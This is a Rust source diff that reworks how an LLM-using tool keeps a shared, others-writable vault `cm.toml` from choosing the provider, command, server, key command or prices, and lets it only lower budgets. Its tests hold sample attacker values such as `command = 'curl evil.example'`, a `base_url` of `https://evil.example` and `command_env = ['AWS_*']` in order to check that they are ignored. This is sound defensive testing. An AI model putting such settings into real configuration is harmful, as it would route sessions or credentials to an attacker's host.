@@ -1,30 +1,17 @@
-//! Which language model a vault's settings name, and whose word counts for what.
+//! Which language model the user's settings name, and what may be spent on it. Nothing is opened here.
 //!
-//! A vault's `cm.toml` is written by everybody who can push to it. It may do without a model and lower a budget; it never
-//! says what runs, where sessions go, or what is paid. Nothing is opened here.
+//! A vault's `cm.toml` is written by whoever made the folder. It may lower a budget; which program runs, where sessions go and
+//! what is paid counts from the user's own settings only (`config::keys`).
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
-use crate::config::{Origin, Settings};
+use crate::config::Settings;
 use crate::llm::{Address, Budget, Choice, Command, Key, Price, Prices, Provider, Remote};
-use crate::ops::embedding::is_own_word;
 use crate::ops::error::{Error, Result};
 use crate::ops::memory::{Memory, OpenVault};
-use crate::vault::{foreign, layout};
-
-/// Settings that are the person's own to make, besides the provider.
-const OWN: [&str; 8] = [
-    "llm.api_key_cmd",
-    "llm.base_url",
-    "llm.command",
-    "llm.command_env",
-    "llm.fallback",
-    "llm.model",
-    "llm.prices",
-    "llm.script",
-];
+use crate::vault::foreign;
 
 /// The model that answers, and on what terms.
 #[derive(Debug, Clone)]
@@ -59,22 +46,13 @@ pub struct Named {
 /// # Errors
 /// A setting that holds what it cannot hold.
 pub fn chosen(memory: &Memory, open: &OpenVault) -> Result<Chosen> {
-    let mine = |origin: &Origin| is_own_word(memory, open, origin);
-    let words = Words {
-        settings: &open.settings,
-        mine: &mine,
-        call: &memory.call.environment,
-        cwd: open.vault.root(),
-    };
-    let (chosen, notices) = words.chosen()?;
-    notices.into_iter().for_each(|notice| memory.notice(notice));
-    Ok(chosen)
+    open.settings.ignored("llm.").for_each(|notice| memory.notice(notice));
+    Words { settings: &open.settings, call: &memory.call.environment, cwd: &memory.call.cwd }.chosen()
 }
 
 /// The settings as words of somebody.
 struct Words<'a> {
     settings: &'a Settings,
-    mine: &'a dyn Fn(&Origin) -> bool,
     /// The environment.
     call: &'a BTreeMap<String, String>,
     /// The folder that paths are taken from.
@@ -82,16 +60,14 @@ struct Words<'a> {
 }
 
 impl Words<'_> {
-    fn chosen(&self) -> Result<(Chosen, Vec<String>)> {
-        let mut notices = Vec::new();
-        let provider = self.provider(&mut notices);
+    fn chosen(&self) -> Result<Chosen> {
+        let provider = self.text("llm.provider");
         let prices = Prices::parse(&self.list("llm.prices")).map_err(|error| {
             Error::refused("invalid-setting", format!("llm.prices: {error}"))
                 .hint("mend it: cm config get llm.prices")
         })?;
         let mut models = Vec::new();
         if provider != "none" {
-            notices.extend(self.not_counted());
             let model = self.text("llm.model");
             models.push(self.named(&provider, &model, &provider, &prices)?);
             for typed in self.list("llm.fallback") {
@@ -100,48 +76,13 @@ impl Words<'_> {
             }
         }
         let settings = self.settings;
-        let chosen = Chosen {
+        Ok(Chosen {
             models,
             budget: self.budget(),
             timeout: Duration::from_secs_f64(settings.number("llm.timeout_s").clamp(1.0, 3600.0)),
             max_tokens: u32::try_from(settings.whole("llm.max_tokens")).unwrap_or(u32::MAX),
             retries: u32::try_from(settings.whole("llm.retries")).unwrap_or(3),
-        };
-        Ok((chosen, notices))
-    }
-
-    /// The provider that counts. A shared file may say `none` and nothing else.
-    fn provider(&self, notices: &mut Vec<String>) -> String {
-        let held = self.settings.get("llm.provider");
-        let mine = self.text("llm.provider");
-        match held.and_then(|(value, origin)| Some((value.as_str()?, origin))) {
-            Some(("none", _)) => "none".to_owned(),
-            Some((provider, origin)) if !(self.mine)(origin) => {
-                notices.push(format!(
-                    "{origin} sets llm.provider to {provider}, and a file that others can write cannot decide who reads \
-                     sessions. To allow it: cm config set llm.provider {provider} --private"
-                ));
-                mine
-            }
-            _ => mine,
-        }
-    }
-
-    /// What a shared file sets that is the person's to set.
-    fn not_counted(&self) -> Vec<String> {
-        let set = |name: &&&str| {
-            let held = self.settings.get_from(name, |origin| !(self.mine)(origin));
-            held.is_some_and(|(value, _)| {
-                value.as_str() != Some("") && value.as_array().is_none_or(|all| !all.is_empty())
-            })
-        };
-        let said = |name: &&str| {
-            let file = layout::SETTINGS;
-            format!(
-                "{name} of a {file} that others can write does not count; cm config set {name} … --private"
-            )
-        };
-        OWN.iter().filter(set).map(said).collect()
+        })
     }
 
     /// A model of a provider. What is set for the server and the key is meant for the first provider alone.
@@ -208,10 +149,7 @@ impl Words<'_> {
     }
 
     fn private_key(&self) -> Option<Key> {
-        let private = |origin: &Origin| {
-            matches!(origin, Origin::Private | Origin::Environment(_)) && (self.mine)(origin)
-        };
-        self.settings.get_from("llm.key", private).and_then(|(value, _)| Key::of(value.as_str()?))
+        self.settings.get("llm.key").and_then(|(value, _)| Key::of(value.as_str()?))
     }
 
     /// The person's budget, lowered by what a shared file says of the same limit.
@@ -220,9 +158,8 @@ impl Words<'_> {
             let read = |value: &toml::Value| {
                 value.as_float().or_else(|| value.as_integer().map(|whole| whole as f64))
             };
-            let mine =
-                self.settings.get_from(name, self.mine).and_then(|(value, _)| read(value)).unwrap_or(0.0);
-            let shared = self.settings.get_from(name, |origin| !(self.mine)(origin));
+            let mine = self.settings.users(name).and_then(read).unwrap_or(0.0);
+            let shared = self.settings.get_from(name, |origin| !origin.is_users());
             let shared = shared.and_then(|(value, _)| read(value)).filter(|limit| *limit > 0.0);
             // 0 stands for no limit, which nobody else may set.
             if mine > 0.0 { shared.map_or(mine, |shared| shared.min(mine)) } else { 0.0 }
@@ -237,23 +174,20 @@ impl Words<'_> {
         }
     }
 
-    /// The person's own text.
     fn text(&self, name: &str) -> String {
-        let held = self.settings.get_from(name, self.mine).and_then(|(value, _)| value.as_str());
-        held.unwrap_or_default().trim().chars().filter(|c| !c.is_control()).collect()
+        let held = self.settings.text(name).unwrap_or_default();
+        held.trim().chars().filter(|c| !c.is_control()).collect()
     }
 
-    /// The person's own list.
     fn list(&self, name: &str) -> Vec<String> {
-        let held = self.settings.get_from(name, self.mine).and_then(|(value, _)| value.as_array());
-        held.into_iter().flatten().filter_map(toml::Value::as_str).map(str::to_owned).collect()
+        self.settings.texts(name)
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::config::Layer;
+    use crate::config::{Layer, Origin};
 
     /// What these files say, where `cm.toml` is written by others; as one text.
     fn said(files: &[(&str, Origin)], environment: &[(&str, &str)]) -> String {
@@ -262,17 +196,17 @@ mod tests {
         let mut layers: Vec<(Layer, Origin)> = files
             .iter()
             .map(|(text, origin)| {
-                let name = if *origin == Origin::Private { "_config.toml" } else { "cm.toml" };
+                let name = if origin.is_users() { "config.toml" } else { "cm.toml" };
                 (Layer::of_toml(name, text), origin.clone())
             })
             .collect();
         layers.extend(Layer::of_environment(&environment));
         let settings = Settings::of(layers);
-        let mine = |origin: &Origin| *origin != Origin::Vault;
-        let words = Words { settings: &settings, mine: &mine, call: &environment, cwd: Path::new("/vault") };
+        let words = Words { settings: &settings, call: &environment, cwd: Path::new("/vault") };
+        let notices: Vec<String> = settings.ignored("llm.").map(str::to_owned).collect();
         match words.chosen() {
             Err(error) => format!("{}: {error}", error.code),
-            Ok((chosen, notices)) => {
+            Ok(chosen) => {
                 let models = chosen.models.iter().map(|named| {
                     let key = match &named.choice {
                         Choice::Remote(Remote { key: Some(_), .. }) => " with a key",
@@ -294,8 +228,7 @@ mod tests {
     fn budget(files: &[(&str, Origin)]) -> Budget {
         let layers = files.iter().map(|(text, origin)| (Layer::of_toml("cm.toml", text), origin.clone()));
         let settings = Settings::of(layers.collect());
-        let mine = |origin: &Origin| *origin != Origin::Vault;
-        Words { settings: &settings, mine: &mine, call: &BTreeMap::new(), cwd: Path::new("/vault") }.budget()
+        Words { settings: &settings, call: &BTreeMap::new(), cwd: Path::new("/vault") }.budget()
     }
 
     #[test]
@@ -304,7 +237,7 @@ mod tests {
         let ollama = "[llm]\nprovider = 'ollama'\nmodel = 'qwen3:8b'";
         insta::assert_snapshot!(said(&[(ollama, Origin::Private)], &[]), @"ollama/qwen3:8b at here for Some(0.0)");
         let openai = "[llm]\nprovider = 'openai'\nmodel = 'small'\nfallback = ['anthropic/big', 'cli']\ncommand = 'claude -p'\nprices = ['small 0.25 2']";
-        insta::assert_snapshot!(said(&[(openai, Origin::Global)], &[("OPENAI_API_KEY", "sk-12345")]), @"
+        insta::assert_snapshot!(said(&[(openai, Origin::User)], &[("OPENAI_API_KEY", "sk-12345")]), @"
         openai/small at api.openai.com with a key for Some(0.25)
         anthropic/big at api.anthropic.com for None
         cli/claude at the program `claude` for Some(0.0)
@@ -317,23 +250,16 @@ mod tests {
     #[test]
     fn a_shared_file_chooses_neither_model_nor_server_nor_program_nor_price() {
         let theirs = "[llm]\nprovider = 'cli'\ncommand = 'curl evil.example'\n";
-        insta::assert_snapshot!(said(&[(theirs, Origin::Vault)], &[]), @"cm.toml sets llm.provider to cli, and a file that others can write cannot decide who reads sessions. To allow it: cm config set llm.provider cli --private");
+        insta::assert_snapshot!(said(&[(theirs, Origin::Vault)], &[]), @"
+        `llm.provider` does not count in cm.toml, which others can write; to set it for yourself: cm config set llm.provider … --private
+        `llm.command` does not count in cm.toml, which others can write; to set it for yourself: cm config set llm.command … --private
+        ");
         let mine = "[llm]\nprovider = 'ollama'\nmodel = 'mine'";
         let theirs = "[llm]\nprovider = 'openai'\nmodel = 'theirs'\nbase_url = 'https://evil.example'\napi_key_cmd = 'evil'\n\
             fallback = ['openai/x']\nscript = 'x'\nprices = ['mine 0 0']\ncommand_env = ['AWS_*']";
-        insta::assert_snapshot!(said(&[(mine, Origin::Global), (theirs, Origin::Vault)], &[]), @"
-        ollama/mine at here for Some(0.0)
-        cm.toml sets llm.provider to openai, and a file that others can write cannot decide who reads sessions. To allow it: cm config set llm.provider openai --private
-        llm.api_key_cmd of a cm.toml that others can write does not count; cm config set llm.api_key_cmd … --private
-        llm.base_url of a cm.toml that others can write does not count; cm config set llm.base_url … --private
-        llm.command_env of a cm.toml that others can write does not count; cm config set llm.command_env … --private
-        llm.fallback of a cm.toml that others can write does not count; cm config set llm.fallback … --private
-        llm.model of a cm.toml that others can write does not count; cm config set llm.model … --private
-        llm.prices of a cm.toml that others can write does not count; cm config set llm.prices … --private
-        llm.script of a cm.toml that others can write does not count; cm config set llm.script … --private
-        ");
-        let off = "[llm]\nprovider = 'none'";
-        assert_eq!(said(&[(mine, Origin::Global), (off, Origin::Vault)], &[]), "");
+        let both = said(&[(mine, Origin::User), (theirs, Origin::Vault)], &[]);
+        assert!(both.starts_with("ollama/mine at here for Some(0.0)\n"), "{both}");
+        assert_eq!(both.matches("does not count in cm.toml").count(), 8, "{both}");
     }
 
     #[test]
@@ -353,7 +279,7 @@ mod tests {
     #[test]
     fn a_shared_file_lowers_a_budget_and_neither_raises_nor_makes_one() {
         let mine = "[budget]\ndaily_usd = 2.0\nmonthly_tokens = 1000\n";
-        let both = |theirs: &str| budget(&[(mine, Origin::Global), (theirs, Origin::Vault)]);
+        let both = |theirs: &str| budget(&[(mine, Origin::User), (theirs, Origin::Vault)]);
         assert_eq!(both("[budget]\ndaily_usd = 0.5").daily_usd, 0.5);
         assert_eq!(both("[budget]\ndaily_usd = 50.0").daily_usd, 2.0);
         assert_eq!(both("[budget]\ndaily_usd = 0.0\nmonthly_tokens = 0").daily_usd, 2.0);
